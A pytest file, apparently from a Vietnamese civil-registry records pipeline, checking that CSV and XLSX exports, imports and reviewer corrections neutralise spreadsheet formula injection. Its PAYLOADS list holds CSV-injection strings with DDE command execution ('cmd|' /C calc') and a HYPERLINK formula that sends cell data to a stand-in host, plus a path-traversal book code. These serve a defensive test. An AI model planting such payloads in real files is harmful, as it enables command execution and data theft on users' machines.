"""Hostile cells: no CSV or XLSX hotich writes holds a cell a spreadsheet would run as a formula.

The files are written for real and read back as bytes (CSV) or with openpyxl (XLSX); values
typed by a reviewer or imported are stored as they are written, so an exported file imported
again finds its records.
"""

from __future__ import annotations

import csv
import io
import zipfile

import openpyxl
import pytest
from sqlalchemy import select, update

from national_helpers import seed_export_book
from pipeline.cells import FORMULA_START, formula_safe, is_formula_like, original, xlsx_safe
from pipeline.export.national import export_national
from pipeline.export.records import export_records
from pipeline.ingest import BookInfo
from pipeline.paths import book_dir_name
from pipeline.records_import import import_records
from pipeline.review import actions
from pipeline.review.auth import add_user
from pipeline.review.offline import COLUMNS, SHEET, export_review, import_review
from pipeline.review.sample import seed_sample_book
from pipeline.settings import Settings
from pipeline.storage.db import session_scope
from pipeline.storage.models import Book, Citizen, Link, Record
from pipeline.storage.versions import add_field_version, current_values

CALC = "@SUM(1+1)*cmd|' /C calc'!A0"
PAYLOADS = [CALC, "=cmd|' /C calc'!A0", "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
            "\t=1+1", "\r=1+1", '=HYPERLINK("http://x.example/?d="&A1,"Bấm")']


def _csv_rows(path) -> tuple[bytes, list[dict[str, str]]]:
    data = path.read_bytes()
    return data, list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def _no_formula_anywhere(path) -> dict[str, list[list[object]]]:
    """The values of every sheet, by title, after checking every cell: none is a formula, no
    text looks like one."""
    book = openpyxl.load_workbook(path)
    sheets = {}
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                assert not (isinstance(cell.value, str) and is_formula_like(cell.value)), cell.value
        sheets[sheet.title] = [[c.value for c in row] for row in sheet.iter_rows()]
    return sheets


# --- the rule ---------------------------------------------------------------------------------

@pytest.mark.parametrize("text", PAYLOADS)
def test_every_formula_start_gets_a_quote_and_comes_back(text):
    assert text.startswith(FORMULA_START)
    assert formula_safe(text) == "'" + text and xlsx_safe(text) == "'" + text
    assert formula_safe(formula_safe(text)) == formula_safe(text)  # twice is once
    assert original(formula_safe(text)) == text


@pytest.mark.parametrize("value", ["-12", "+84912345678", "-1.5", "-1,5", -3, -3.5, 0, None, "",
                                   "Nguyễn Văn An", "'Bà Ba'", "1+1", "xóm 3 - Hưng Dũng"])
def test_numbers_and_ordinary_text_are_left_alone(value):
    assert formula_safe(value) == value
    if isinstance(value, str):
        assert original(value) == value


def test_xlsx_cells_lose_only_what_xml_cannot_hold():
    assert xlsx_safe("a\x01b\tc") == "a\ufffdb\tc"
    assert xlsx_safe("\x00=1") == "\ufffd=1"


# --- records export ---------------------------------------------------------------------------

def _ocr_book(session) -> Record:
    """A record read by OCR before any input rule: hostile text in its values and its id, a
    negative number in a numeric column, and a link whose score is negative."""
    book = Book(book_code="HOSTILE-1", book_type="birth", template="birth_form", commune="Hưng Dũng",
                district="Hưng Nguyên", province="Nghệ Tĩnh", year_from=1968, year_to=1968, volume="1")
    session.add(book)
    session.flush()
    record = Record(record_key=PAYLOADS[-1], book_id=book.id, page_id=None, row=1,
                    record_type="birth", source="ocr", status="extracted", confidence=0.5)
    session.add(record)
    session.flush()
    values = {"full_name": CALC, "birth_place": PAYLOADS[1], "residence": PAYLOADS[2],
              "notes": PAYLOADS[3], "declarant": PAYLOADS[4], "ethnicity": PAYLOADS[5],
              "father_age": "-5", "mother_age": "45", "registration_no": "-12"}
    for name, value in values.items():
        add_field_version(session, record, name, raw=value, value=value, status="read",
                          confidence=0.9, source="ocr")
    citizen = Citizen(citizen_id="040068001234", full_name="Nguyễn Văn An", name_key="nguyễn văn an",
                      name_folded="nguyen van an", sex="M", birth_year=1968)
    session.add(citizen)
    session.flush()
    session.add(Link(record_id=record.id, citizen_pk=citizen.id, score=-2.5, rank=1, status="auto",
                     explanation={}))
    return record


def test_records_export_quotes_every_hostile_cell_in_csv_and_xlsx(engine, tmp_path):
    with session_scope(engine) as s:
        _ocr_book(s)
    assert export_records(engine, tmp_path / "ra.csv") == 1
    data, rows = _csv_rows(tmp_path / "ra.csv")
    row = rows[0]
    assert b"'@SUM(1+1)*cmd|' /C calc'!A0" in data
    assert row["full_name"] == "'" + CALC and row["record_id"] == "'" + PAYLOADS[-1]
    assert row["birth_place"] == "'" + PAYLOADS[1] and row["residence"] == "'" + PAYLOADS[2]
    assert row["notes"] == "'" + PAYLOADS[3]
    assert row["declarant"] == "'" + PAYLOADS[4] and row["ethnicity"] == "'" + PAYLOADS[5]
    # Numbers stay numbers: a negative age, a negative score, a number with a sign.
    assert (row["father_age"], row["registration_no"], row["match_score"]) == ("-5", "-12", "-2.5")
    assert all(not is_formula_like(v) for r in rows for v in r.values() if v)

    assert export_records(engine, tmp_path / "ra.xlsx") == 1
    (cells,) = _no_formula_anywhere(tmp_path / "ra.xlsx").values()
    out = dict(zip(cells[0], cells[1]))
    assert out["full_name"] == "'" + CALC and out["record_id"] == "'" + PAYLOADS[-1]
    assert out["match_score"] == -2.5 and out["father_age"] == "-5"


# --- input: records import and a reviewer's correction ----------------------------------------

TYPED_HEADER = "record_id,registration_no,registration_date,full_name,sex,birth_date,birth_place,notes"
INFO = BookInfo("", "Hưng Dũng", "Hưng Nguyên", "Nghệ Tĩnh", "1968", "1", "KS-HD-1968")


def test_imported_cells_are_stored_quoted_and_an_export_reads_back_unchanged(engine, tmp_path):
    typed = tmp_path / "so.csv"
    typed.write_text(f"{TYPED_HEADER}\n=1+1,1,20/3/1968,Nguyễn Văn An,Nam,12/3/1968,Xã Hưng Dũng,\"{CALC}\"\n",
                     encoding="utf-8")
    assert import_records(engine, typed, book_type="birth", book=INFO).inserted == 1
    with session_scope(engine) as s:
        record = s.scalar(select(Record))
        notes = current_values(s, record.id)["notes"]
        assert record.record_key == "'=1+1"
        assert (notes.value, notes.raw) == ("'" + CALC, CALC)  # the cell verbatim in raw

    exported = tmp_path / "ra.csv"
    export_records(engine, exported, book_code="KS-HD-1968")
    _, rows = _csv_rows(exported)
    assert (rows[0]["record_id"], rows[0]["notes"]) == ("'=1+1", "'" + CALC)
    again = import_records(engine, exported, book_type="birth", book=INFO)
    assert (again.inserted, again.updated, again.unchanged, again.errors) == (0, 0, 1, [])

    # A record imported before ids were quoted keeps its id and is found from the export.
    with session_scope(engine) as s:
        s.execute(update(Record).values(record_key="=1+1"))
    after = import_records(engine, exported, book_type="birth", book=INFO)
    assert (after.inserted, after.unchanged) == (0, 1)
    with session_scope(engine) as s:
        assert s.scalars(select(Record.record_key)).all() == ["=1+1"]


def test_a_reviewers_correction_is_stored_as_it_is_exported(engine, tmp_path):
    typed = tmp_path / "so.csv"
    typed.write_text(f"{TYPED_HEADER}\nA1,1,20/3/1968,Nguyễn Văn An,Nam,12/3/1968,Xã Hưng Dũng,\n",
                     encoding="utf-8")
    import_records(engine, typed, book_type="birth", book=INFO)
    with session_scope(engine) as s:
        add_user(s, "lan", "reviewer", "matkhau-lan-01", actor="test")
        record = s.scalar(select(Record))
        current = current_values(s, record.id)
        for name, text in (("notes", CALC), ("declarant", "\t@x"), ("birth_place", "-1+cmd")):
            latest = current[name].version if name in current else 0
            actions.save_field(s, record.id, name, action="accept", text=text,
                               expected_version=latest, user="lan")
        stored = {k: v.value for k, v in current_values(s, record.id).items()}
    # Cleaning drops the leading tab, '-' (noise around a value); what is left is quoted.
    assert (stored["notes"], stored["declarant"], stored["birth_place"]) == ("'" + CALC, "'@x", "1+cmd")
    export_records(engine, tmp_path / "ra.csv")
    _, rows = _csv_rows(tmp_path / "ra.csv")
    assert (rows[0]["notes"], rows[0]["declarant"]) == ("'" + CALC, "'@x")


# --- the offline review package and its report ----------------------------------------------

def test_offline_workbook_and_report_hold_no_formula(engine, tmp_path):
    settings = Settings(home=tmp_path / "ws")
    sample = seed_sample_book(engine, settings, with_population=False)
    with session_scope(engine) as s:
        add_user(s, "lan", "reviewer", "matkhau-lan-01", actor="test")
        record = s.get(Record, sample.record_ids[0])
        record.record_key = "=2+2"  # an id stored before the rule
        name = current_values(s, record.id)["full_name"]
        name.raw, name.value = PAYLOADS[1], CALC  # OCR picked up junk; the reviewer must look
    package = tmp_path / "duyet.xlsx"
    export_review(engine, settings, package)
    cells = _no_formula_anywhere(package)[SHEET]
    keys = [c.key for c in COLUMNS]
    assert cells[0] == [c.header for c in COLUMNS]
    rows = [dict(zip(keys, r)) for r in cells[1:]]
    name = next(r for r in rows if r["record_key"] == "'=2+2" and r["field"] == "full_name")
    assert (name["current"], name["raw"]) == ("'" + CALC, "'" + PAYLOADS[1])

    # The clerk types a value in the quoted row: the import finds the record by its stored id.
    book = openpyxl.load_workbook(package)
    sheet = book[SHEET]
    col = {c.key: i + 1 for i, c in enumerate(COLUMNS)}
    for r in range(2, sheet.max_row + 1):
        if sheet.cell(r, col["record_key"]).value == "'=2+2" and sheet.cell(r, col["field"]).value == "full_name":
            sheet.cell(r, col["corrected"]).value = "@Nguyễn Văn Hùng"
    book.save(package)
    report = import_review(engine, package, reviewer="lan", report_path=tmp_path / "ketqua.csv")
    assert report.counts.get("applied") == 1
    with session_scope(engine) as s:
        # stored quoted (the name cleaner capitalises after the '@', not at it)
        assert current_values(s, sample.record_ids[0])["full_name"].value.lower() == "'@nguyễn văn hùng"
    _, lines = _csv_rows(tmp_path / "ketqua.csv")
    assert [line["Mã bản ghi"] for line in lines if line["Mã bản ghi"].endswith("=2+2")] == ["'=2+2"]
    assert all(not is_formula_like(v) for line in lines for v in line.values() if v)


# --- the national export ----------------------------------------------------------------------

def test_national_workbook_quotes_hostile_values_and_files_keep_inside(engine, tmp_path):
    book = seed_export_book(engine, tmp_path / "ws")
    hostile_code = "../../quyen 1/x"  # a code stored before the rule
    with session_scope(engine) as s:
        add_field_version(s, book.record_ids[0], "full_name", raw=CALC, value=CALC, status="read",
                          confidence=1.0, source="review", changed_by="lan", reason="test")
        s.execute(update(Book).where(Book.book_code == book.book_code).values(book_code=hostile_code))
    out = tmp_path / "nop"
    outcome = export_national(engine, book.settings, out, actor="an")
    stem = book_dir_name(hostile_code)
    assert sorted(p.name for p in outcome.folder.iterdir() if p.suffix != ".json") == [
        f"{stem}.xlsx", f"{stem}.zip"]
    assert {p.resolve().parent for p in out.rglob("*") if p.is_file()} <= {outcome.folder.resolve()}
    (cells,) = _no_formula_anywhere(outcome.folder / f"{stem}.xlsx").values()
    assert "'" + CALC in [v for row in cells for v in row]
    with zipfile.ZipFile(outcome.folder / f"{stem}.zip") as z:
        assert all(n.startswith(stem + "_") and "/" not in n for n in z.namelist())
